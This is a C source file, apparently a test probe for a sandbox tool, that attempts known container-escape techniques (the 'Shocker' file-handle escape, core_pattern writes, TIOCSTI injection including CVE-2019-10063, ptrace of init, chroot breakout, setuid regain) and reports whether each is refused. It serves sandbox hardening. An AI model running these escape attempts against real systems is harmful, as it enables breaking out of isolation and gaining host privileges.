/* An attacker inside a sandbox: `escape NAME [ARG]` tries one known way out and prints one line,
 * "NAME ok [detail]" when it worked or "NAME ERRNO" (ENOENT, EPERM, ...) naming the refusal.
 * Static, so it runs in any rootfs. Nothing here writes to the host: opening for writing is the
 * proof for sysctls and cgroup files, and what it creates lives in the sandbox's own rootfs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static const char *name;

static int refused(void) {
  printf("%s %s\n", name, strerrorname_np(errno));
  return 0;
}

static int worked(const char *detail) {
  printf("%s ok%s%s\n", name, detail ? " " : "", detail ? detail : "");
  return 0;
}

/* The first entries of a directory, as a detail. */
static const char *entries(int dirfd) {
  static char out[256];
  DIR *d = fdopendir(dirfd);
  out[0] = '\0';
  struct dirent *e;
  while (d && (e = readdir(d)) && strlen(out) < 200) {
    if (e->d_name[0] == '.') continue;
    strcat(out, e->d_name);
    strcat(out, ",");
  }
  return out;
}

/* "Shocker": open the root directory of the filesystem the rootfs lives on by its handle
 * (inode 2 on ext2/3/4), which is outside the rootfs. */
static int shocker(void) {
  union {
    struct file_handle h;
    unsigned char raw[sizeof(struct file_handle) + 8];
  } handle;
  memset(&handle, 0, sizeof handle);
  handle.h.handle_bytes = 8;
  handle.h.handle_type = 1; /* FILEID_INO32_GEN: inode 2, generation 0 */
  handle.h.f_handle[0] = 2;
  int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
  int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, &handle.h, O_RDONLY | O_DIRECTORY);
  return fd < 0 ? refused() : worked(entries(fd));
}

static int open_for_writing(const char *path) {
  int fd = open(path, O_WRONLY | (strncmp(path, "/proc", 5) ? O_CREAT : 0), 0600);
  if (fd < 0) return refused();
  close(fd);
  return worked(NULL);
}

static int mount_fs(const char *type, const char *options) {
  mkdir("/tmp/escape-mnt", 0700);
  return mount(type, "/tmp/escape-mnt", type, 0, options) < 0 ? refused() : worked(NULL);
}

static int tiocsti(unsigned long request) {
  int master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
  if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0) return refused();
  int slave = open(ptsname(master), O_RDWR | O_NOCTTY);
  if (slave < 0) return refused();
  char c = 'x';
  /* Not our controlling terminal: only CAP_SYS_ADMIN may push into it. */
  return ioctl(slave, request, &c) < 0 ? refused() : worked(NULL);
}

static int umount_proc(void) {
  if (umount2("/proc", MNT_DETACH) < 0) return refused();
  int n = 0;
  DIR *d = opendir("/proc");
  struct dirent *e;
  while (d && (e = readdir(d))) n += e->d_name[0] >= '0' && e->d_name[0] <= '9';
  char detail[32];
  snprintf(detail, sizeof detail, "%d processes", n);
  return worked(detail);
}

static int chroot_escape(void) {
  mkdir("/tmp/escape-jail", 0700);
  if (chroot("/tmp/escape-jail") < 0) return refused();
  for (int i = 0; i < 64; i++) chdir("..");
  if (chroot(".") < 0) return refused();
  int fd = open("/", O_RDONLY | O_DIRECTORY);
  return worked(entries(fd));
}

/* An abstract unix socket address (no file: only the network namespace scopes it). */
static socklen_t abstract_address(const char *socket_name, struct sockaddr_un *addr) {
  memset(addr, 0, sizeof *addr);
  addr->sun_family = AF_UNIX;
  size_t len = strlen(socket_name);
  memcpy(addr->sun_path + 1, socket_name, len);
  return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len);
}

static int abstract_socket(const char *socket_name) {
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un addr;
  socklen_t len = abstract_address(socket_name, &addr);
  return connect(fd, (struct sockaddr *)&addr, len) < 0 ? refused() : worked(NULL);
}

/* The host's side of that test: listens on the name until killed. */
static int abstract_listen(const char *socket_name) {
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un addr;
  socklen_t len = abstract_address(socket_name, &addr);
  if (bind(fd, (struct sockaddr *)&addr, len) < 0 || listen(fd, 64) < 0) return refused();
  worked("listening");
  fflush(stdout);
  for (;;) pause();
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  name = argv[1];
  const char *arg = argc > 2 ? argv[2] : "";
  if (!strcmp(name, "shocker")) return shocker();
  if (!strcmp(name, "core_pattern")) return open_for_writing("/proc/sys/kernel/core_pattern");
  if (!strcmp(name, "sysfs")) return mount_fs("sysfs", NULL);
  if (!strcmp(name, "cgroup")) return mount_fs("cgroup", "memory");
  if (!strcmp(name, "mknod")) return mknod(arg, S_IFBLK | 0600, makedev(8, 0)) < 0 ? refused() : worked(NULL);
  if (!strcmp(name, "remount")) {
    if (mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) < 0) return refused();
    return open_for_writing("/escape-written");
  }
  if (!strcmp(name, "tiocsti")) return tiocsti(TIOCSTI);
  if (!strcmp(name, "tiocsti-high")) return tiocsti(TIOCSTI | (1UL << 32)); /* CVE-2019-10063 */
  if (!strcmp(name, "tiocsti-tty")) {
    /* The terminal nsbox run shares with an interactive command: its own controlling tty, which
     * needs no capability at all (where dev.tty.legacy_tiocsti allows it). */
    char c = ' ';
    return ioctl(0, TIOCSTI, &c) < 0 ? refused() : worked(NULL);
  }
  if (!strcmp(name, "umount-proc")) return umount_proc();
  if (!strcmp(name, "keyring")) {
    long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
    if (id < 0) return refused();
    char detail[32];
    snprintf(detail, sizeof detail, "%ld", id);
    return worked(detail);
  }
  if (!strcmp(name, "ptrace-init")) {
    if (ptrace(PTRACE_ATTACH, 1, 0, 0) < 0) return refused();
    waitpid(1, NULL, __WALL);
    ptrace(PTRACE_DETACH, 1, 0, 0);
    return worked(NULL);
  }
  if (!strcmp(name, "init-environ")) {
    int fd = open("/proc/1/environ", O_RDONLY);
    char buf[16];
    if (fd < 0 || read(fd, buf, sizeof buf) < 0) return refused();
    return worked(NULL);
  }
  if (!strcmp(name, "init-exe")) return open_for_writing("/proc/1/exe");
  if (!strcmp(name, "chroot")) return chroot_escape();
  if (!strcmp(name, "abstract")) return abstract_socket(arg);
  if (!strcmp(name, "listen")) return abstract_listen(arg);
  if (!strcmp(name, "unshare")) return unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 ? refused() : worked(NULL);
  if (!strcmp(name, "setuid")) {
    /* Become an ordinary user, then run a setuid-root binary (ARG): does it give root back? */
    if (setresgid(1000, 1000, 1000) < 0 || setresuid(1000, 1000, 1000) < 0) return refused();
    fflush(stdout);
    execl(arg, arg, "euid", (char *)NULL);
    return refused();
  }
  if (!strcmp(name, "euid")) {
    printf("setuid %s\n", geteuid() == 0 ? "ok euid 0" : "kept-out");
    return 0;
  }
  if (!strcmp(name, "x32")) {
    long pid = syscall(0x40000000 | SYS_getpid);
    return pid < 0 ? refused() : worked(NULL);
  }
  printf("%s unknown\n", name);
  return 2;
}
